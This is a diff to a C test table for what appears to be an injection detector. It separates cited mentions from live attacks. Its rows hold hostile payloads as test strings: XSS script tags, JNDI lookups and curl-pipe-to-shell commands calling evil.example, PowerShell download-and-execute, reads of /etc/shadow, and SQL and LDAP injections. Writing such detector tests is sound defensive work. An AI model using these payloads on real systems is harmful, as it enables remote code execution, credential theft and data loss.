@@ -74,6 +74,18 @@ static const struct row {
         {CITED, GB_CLASS_SQL_INJECTION, "//div[@class='a' or @class='b']/a[contains(@href,'x')]"},
         {CITED, GB_CLASS_CODE_INJECTION,
                 "<?php echo trim($_GET['q']); ?> prints a blank in front of the text, is that right?"},
+        /* The talk of the text, and how the attack is tied to its sentence. */
+        {CITED, GB_CLASS_XSS,
+                "Our tester typed <script src=//evil.example/x.js></script> into the field and got a popup."},
+        {CITED, GB_CLASS_TEMPLATE, "Our tester typed \"{{ ''.__class__.__mro__ }}\" into the field and got an error."},
+        {CITED, GB_CLASS_NAMING_LOOKUP,
+                "Our scanner sent `${jndi:ldap://evil.example/a}` to the server and it was in the log."},
+        {CITED, GB_CLASS_DIRECTORY_QUERY,
+                "A filter that is put together from input can be closed early with *)(uid=*))(|(uid=* in the login."},
+        {CITED, GB_CLASS_SQL_INJECTION, "The label \"x'); DROP TABLE y;--\" on that box in the hall made my day."},
+        {CITED, GB_CLASS_XSS,
+                "document.getElementById('a').innerHTML = '<b>' + name + '</b>'; works, but how can I do that without "
+                "it?"},
         /* In use: nothing around, a comment around, or the talk of something else. */
         {ATTACK, GB_CLASS_SQL_INJECTION, "' OR 1=1 -- "},
         {ATTACK, GB_CLASS_SQL_INJECTION, "\"' OR 1=1 -- \""},
@@ -90,12 +102,18 @@ static const struct row {
         {ATTACK, GB_CLASS_XSS, "<img src=x onerror=alert(1)> Great article, thank you very much!"},
         {ATTACK, GB_CLASS_COMMAND_INJECTION, "Get-ChildItem; iex (iwr http://evil.example/a.ps1)"},
         {ATTACK, GB_CLASS_COMMAND_INJECTION, "cat notes.txt; cat /etc/shadow"},
-        /* What reaches out is an attack in a sentence of whatever kind. */
-        {ATTACK, GB_CLASS_XSS,
-                "Our tester typed <script src=//evil.example/x.js></script> into the field and got a popup."},
-        {ATTACK, GB_CLASS_TEMPLATE, "Our tester typed \"{{ ''.__class__.__mro__ }}\" into the field and got an error."},
+        /* What reaches out wants more talk of software than what only shows that it runs. */
+        {ATTACK, GB_CLASS_XSS, "In my shop you find <script src=//evil.example/x.js></script> lamps of every size."},
+        {ATTACK, GB_CLASS_XSS, "Visit my web site: <script src=//evil.example/x.js></script>"},
+        {ATTACK, GB_CLASS_TEMPLATE,
+                "My aunt says \"{{ ''.__class__.__mro__ }}\" whenever she enters a room full of people."},
         {ATTACK, GB_CLASS_NAMING_LOOKUP,
-                "Our scanner sent `${jndi:ldap://evil.example/a}` to the server and it was in the log."},
+                "We found your house with `${jndi:ldap://evil.example/a}` in the evening, thank you for all."},
+        {ATTACK, GB_CLASS_NAMING_LOOKUP, "Hello, I lost my password ${jndi:ldap://evil.example/a} please help me."},
+        /* Appended to what somebody wrote of software. */
+        {ATTACK, GB_CLASS_SQL_INJECTION, "The new query is quick' OR 1=1 -- "},
+        {ATTACK, GB_CLASS_COMMAND_INJECTION, "Fix the readme and bump the version; $(curl http://evil.example/a | sh)"},
+        {ATTACK, GB_CLASS_XSS, "I typed this text. It is a good form. <img src=x onerror=alert(1)>"},
         {ATTACK, GB_CLASS_COMMAND_INJECTION, "Thank you for the nice stay at your hotel; $(curl evil.example|sh)"},
         /* A mention in front of it. */
         {ATTACK, GB_CLASS_XSS, "The page lets `<script>alert(1)</script>` through.\n<img src=x onerror=alert(1)>"},
